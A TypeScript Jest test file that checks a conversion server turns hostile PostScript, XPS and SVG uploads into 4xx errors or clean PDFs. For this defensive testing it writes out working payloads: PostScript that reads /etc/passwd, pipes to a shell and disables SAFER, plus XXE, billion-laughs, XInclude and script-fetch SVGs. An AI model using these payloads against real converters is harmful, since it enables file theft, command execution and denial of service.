import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { svgToPdfTool, vectorToPdfTool } from '@folio/registry';
import { postTool, type ToolResponse, type Upload } from './support/http';
import { pageTexts } from './support/pdfs';
import { strayJobEngines } from './support/processes';
import { leftoversAfterCleanup, startTestServer, type TestServer } from './support/test-server';
import { xpsOf, XPS_TRIANGLE_PAGE } from './support/vector-documents';

/**
 * Hostile PostScript, XPS and SVG for the vector conversions (PostScript to
 * PDF, SVG to PDF): programs that loop, reach for files or devices, or ask
 * for absurd pages; packages that expand without end or nest without end;
 * drawings that reach for files and addresses. Each is answered with a 4xx
 * problem or a correct PDF that holds nothing it reached for: never a 5xx,
 * never a hang, nothing left behind, no engine left running, no connection made.
 */
jest.setTimeout(180_000);

/** The time a run may take here: the watchdog's 10 s for a first page, and start-up. */
const PROMPT_MS = 20_000;
const SECRET = 'VECTOR-SECRET-51c2';

describe('Hostile vector documents', () => {
  let server: TestServer;
  let dir: string;
  let secretFile: string;
  let recorder: Server;
  let recorderUrl: string;
  const seen: string[] = [];

  beforeAll(async () => {
    // A small expansion budget, so a modest bomb meets it; a short page time, so loops are stopped soon.
    server = await startTestServer({ maxDecodedContentBytes: 32 * 1024 * 1024, enginePageMs: 2_000, maxPages: 50 });
    dir = mkdtempSync(join(tmpdir(), 'vector-hostile-'));
    secretFile = join(dir, 'secret.txt');
    writeFileSync(secretFile, `${SECRET}\n`);
    recorder = createServer((req, res) => {
      seen.push(`${req.method} ${req.url}`);
      res.end(SECRET);
    });
    recorder.on('connection', () => seen.push('connection'));
    recorder.listen(0, '127.0.0.1');
    await once(recorder, 'listening');
    recorderUrl = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    recorder.closeAllConnections();
    recorder.close();
    rmSync(dir, { recursive: true, force: true });
    await server.close();
  });
  afterEach(async () => {
    expect(await leftoversAfterCleanup(server)).toEqual([]);
    expect(await strayJobEngines(process.pid, 5_000)).toEqual([]);
    expect(seen).toEqual([]);
  });

  /** Sends one file, timing it; answers the response once it is known to be a 4xx problem or a PDF. */
  async function send(endpoint: string, file: Upload): Promise<ToolResponse> {
    const started = Date.now();
    const res = await postTool(server, endpoint, [file]);
    expect(Date.now() - started).toBeLessThan(PROMPT_MS);
    if (res.status === 200) {
      expect(res.headers['content-type']).toBe('application/pdf');
      expect(res.body.includes(SECRET)).toBe(false);
      expect(pageTexts(res.body).join('\n')).not.toMatch(new RegExp(`${SECRET}|root:.*:0:0:`));
    } else {
      expect(res.status).toBeGreaterThanOrEqual(400);
      expect(res.status).toBeLessThan(500);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    return res;
  }

  describe('PostScript (PostScript to PDF)', () => {
    const postScript = (name: string, program: string): Upload => ({ name, content: Buffer.from(`%!PS\n${program}\n`), contentType: 'application/postscript' });

    it('stops an endless loop with the document-too-complex 400', async () => {
      const res = await send(vectorToPdfTool.endpoint, postScript('loop.ps', '{} loop'));
      expect(res.json).toMatchObject({ status: 400, type: '/errors/document-too-complex' });
    });

    it('stops a program putting out blank pages without end at the page limit', async () => {
      const res = await send(vectorToPdfTool.endpoint, postScript('pages.ps', '{ showpage } loop'));
      expect(res.json).toMatchObject({ status: 400, type: '/errors/too-many-pages' });
    });

    it.each([
      [
        'reads a file with the file operator',
        () => `(${secretFile}) (r) file 100 string readstring pop 72 72 moveto /Helvetica findfont 12 scalefont setfont show showpage`,
      ],
      ['reads /etc/passwd', () => '(/etc/passwd) (r) file 200 string readstring pop 72 72 moveto /Helvetica findfont 12 scalefont setfont show showpage'],
      ['writes a file', () => `(${join(dir, 'written-by-postscript')}) (w) file (pwned) writestring showpage`],
      ['opens a pipe to a shell', () => `(%pipe%touch ${join(dir, 'piped')}) (w) file closefile showpage`],
      ['deletes a file', () => `(${secretFile}) deletefile showpage`],
      ['lists the file system', () => '(/*) { print } 1000 string filenameforall showpage'],
      ['asks for a page ten million points wide', () => '<< /PageSize [10000000 10000000] >> setpagedevice showpage'],
      ['allocates two gigabytes', () => '/hog 2000000000 string def showpage'],
      ['switches SAFER off', () => '.setsafe false .locksafe (/etc/passwd) (r) file showpage'],
    ])('refuses a program that %s, or draws it without what it reached for', async (_what, program) => {
      await send(vectorToPdfTool.endpoint, postScript('hostile.ps', program()));
      expect(existsSync(secretFile)).toBe(true);
      expect(existsSync(join(dir, 'written-by-postscript'))).toBe(false);
      expect(existsSync(join(dir, 'piped'))).toBe(false);
    });
  });

  describe('XPS (PostScript to PDF)', () => {
    const xps = (content: Buffer): Upload => ({ name: 'hostile.xps', content, contentType: 'application/vnd.ms-xpsdocument' });

    it('refuses a page part that expands past the budget before MuPDF reads it', async () => {
      const page = `<FixedPage xmlns="http://schemas.microsoft.com/xps/2005/06" Width="816" Height="1056">${' '.repeat(64 * 1024 * 1024)}</FixedPage>`;
      const res = await send(vectorToPdfTool.endpoint, xps(await xpsOf([XPS_TRIANGLE_PAGE], { 'Documents/1/Pages/1.fpage': page })));
      expect(res.json).toMatchObject({ status: 400, detail: expect.stringContaining('expands to more than 32 MB') });
    });

    it('answers a page nested 200,000 canvases deep, an absurd page size and pictures outside the package', async () => {
      const ns = 'http://schemas.microsoft.com/xps/2005/06';
      const deep = `<FixedPage xmlns="${ns}" Width="816" Height="1056">${'<Canvas>'.repeat(200_000)}<Path Data="M 1,1 L 5,5 Z" Fill="#FF000000"/>${'</Canvas>'.repeat(200_000)}</FixedPage>`;
      await send(vectorToPdfTool.endpoint, xps(await xpsOf([XPS_TRIANGLE_PAGE], { 'Documents/1/Pages/1.fpage': deep })));
      await send(vectorToPdfTool.endpoint, xps(await xpsOf([{ width: 1e12, height: 1e12, body: '<Path Data="M 1,1 L 5,5 Z" Fill="#FF000000"/>' }])));
      const outside = ['file:///etc/passwd', `file://${secretFile}`, `${recorderUrl}/picture.png`, '../../../../etc/passwd']
        .map(
          (uri) =>
            `<Path Data="M 0,0 L 100,0 L 100,100 Z"><Path.Fill><ImageBrush ImageSource="${uri}" Viewbox="0,0,1,1" Viewport="0,0,100,100" ViewboxUnits="Absolute" ViewportUnits="Absolute"/></Path.Fill></Path>`,
        )
        .join('');
      await send(vectorToPdfTool.endpoint, xps(await xpsOf([{ width: 816, height: 1056, body: outside }])));
    });

    it('refuses a package with more pages than the server takes', async () => {
      const res = await send(vectorToPdfTool.endpoint, xps(await xpsOf(Array(60).fill(XPS_TRIANGLE_PAGE))));
      expect(res.json).toMatchObject({ status: 400, type: '/errors/too-many-pages' });
    });
  });

  describe('SVG (SVG to PDF)', () => {
    const svg = (content: string): Upload => ({ name: 'hostile.svg', content: Buffer.from(content), contentType: 'image/svg+xml' });
    const open = (attributes = 'width="200" height="100"') =>
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>`;

    it.each([
      [
        'an external entity (XXE)',
        () => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://${secretFile}">]>${open()}<text y="20">&x;</text></svg>`,
      ],
      [
        'a parameter entity fetching a DTD',
        () => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % d SYSTEM "${recorderUrl}/evil.dtd"> %d;]>${open()}<text y="20">x</text></svg>`,
      ],
      [
        'a billion laughs',
        () =>
          `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">${'bcdefghij'
            .split('')
            .map((c, i) => `<!ENTITY ${c} "${`&${'abcdefghij'[i]};`.repeat(10)}">`)
            .join('')}]>${open()}<text>&j;</text></svg>`,
      ],
      [
        'pictures and styles from files and addresses',
        () =>
          `${open()}<image xlink:href="file://${secretFile}" width="10" height="10"/><image href="${recorderUrl}/a.png" width="10" height="10"/><style>@import url("${recorderUrl}/a.css"); rect { fill: url(${recorderUrl}/p.svg#x) }</style><rect width="10" height="10" style="fill:url('${recorderUrl}/q.svg#y')"/><text y="50">Kept</text></svg>`,
      ],
      [
        'an XInclude of a local file',
        () => `${open()}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretFile}" parse="text"/><text y="50">Kept</text></svg>`,
      ],
      [
        'scripts and foreign content',
        () =>
          `${open('width="200" height="100" onload="fetch(\'x\')"')}<script>fetch("${recorderUrl}/s")</script><foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${recorderUrl}/f"/></foreignObject><text y="50">Kept</text></svg>`,
      ],
      ['a size of a billion pixels', () => `${open('width="1000000000" height="1000000000"')}<rect width="10" height="10"/></svg>`],
      [
        'exponential <use> references',
        () =>
          `${open()}<defs><g id="l0"><rect width="1" height="1"/></g>${Array.from({ length: 30 }, (_, i) => `<g id="l${i + 1}"><use href="#l${i}"/><use href="#l${i}"/></g>`).join('')}</defs><use href="#l30"/></svg>`,
      ],
      ['groups nested 100,000 deep', () => `${open()}${'<g>'.repeat(100_000)}<rect width="1" height="1"/>${'</g>'.repeat(100_000)}</svg>`],
      ['a zero size', () => `${open('width="0" height="0"')}<rect width="10" height="10"/></svg>`],
    ])('answers an SVG with %s with a 4xx or a PDF that holds nothing it reached for', async (_what, content) => {
      await send(svgToPdfTool.endpoint, svg(content()));
    });
  });
});
